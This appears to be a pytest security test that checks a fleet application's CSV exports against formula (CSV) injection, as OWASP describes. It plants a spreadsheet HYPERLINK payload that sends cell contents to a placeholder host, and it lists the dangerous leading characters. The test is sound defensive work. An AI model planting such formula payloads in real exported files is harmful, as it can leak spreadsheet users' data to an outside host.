"""Each file of CSV that is given out keeps a person's words from being computed by a spreadsheet.

Source: OWASP, CSV Injection: cells that begin with = + - @, a tab or a carriage return.
"""

import csv
import io
import re
from datetime import timedelta
from decimal import Decimal

import pytest

from fleet.models import RejectedRow, SentFile
from tests.doors.addresses import DOORS
from tests.doors.rows import NOW

pytestmark = [pytest.mark.doors, pytest.mark.security]

GIVEN_OUT = {"ledger", "part-purchase", "reading-file-rejects"}
DANGEROUS = {"equals": "=", "plus": "+", "minus": "-", "at": "@", "tab": "\t", "return": "\r"}
FIGURE = re.compile(r"-?\d+(\.\d+)?")


def asked_for(rows, door):
    """The answer of a door that is asked for CSV, as its text; None where it gives something else."""
    address = door.address(rows)
    answer = door.client(rows, "owner").get(f"{address}{'&' if '?' in address else '?'}format=csv")
    body = b"".join(answer.streaming_content) if answer.streaming else answer.content
    return body.decode("utf-8-sig") if answer.get("Content-Type", "").startswith("text/csv") else None


def test_which_doors_give_out_csv(ours):
    found = {
        door.name for door in DOORS.values() if door.get is not None and asked_for(ours, door) is not None
    }
    assert found == GIVEN_OUT


@pytest.mark.parametrize("begins", DANGEROUS.values(), ids=DANGEROUS)
def test_no_cell_of_them_is_a_formula(ours, begins):
    planted = f'{begins}HYPERLINK("http://a.example/?"&A1,"Click")'
    with ours.house.scope():
        for model, names in (
            (type(ours.machine), ["tag"]),
            (type(ours.kind), ["maker"]),
            (type(ours.part), ["number", "name", "grade"]),
        ):
            for number, row in enumerate(model.objects.all()):
                most = {name: model._meta.get_field(name).max_length - 3 for name in names}
                texts = {name: f"{planted[: most[name]]}{number}" for name in names}
                model.objects.filter(pk=row.pk).update(**texts)
        ours.task.supplies.create(organisation=ours.house.organisation, part=ours.part, quantity=Decimal(30))
        soon = NOW.date() + timedelta(days=5)
        type(ours.duty).objects.filter(pk=ours.duty.pk).update(early=soon, likely=soon, late=soon)
        RejectedRow.objects.create(
            organisation=ours.house.organisation,
            file=ours.file,
            line=2,
            reason=planted,
            cells=[planted, "-5", f"'{planted}", "plain"],
        )
        heading = [1, [planted, "date", "hours"]]
        SentFile.objects.filter(pk=ours.file.pk).update(sample=[heading, *ours.file.sample[1:]])
    for name in sorted(GIVEN_OUT):
        cells = [
            cell for row in csv.reader(io.StringIO(asked_for(ours, DOORS[name]), newline="")) for cell in row
        ]
        assert any("HYPERLINK" in cell for cell in cells), name
        for cell in cells:
            assert not cell.startswith(tuple(DANGEROUS.values())) or FIGURE.fullmatch(cell), (name, cell)
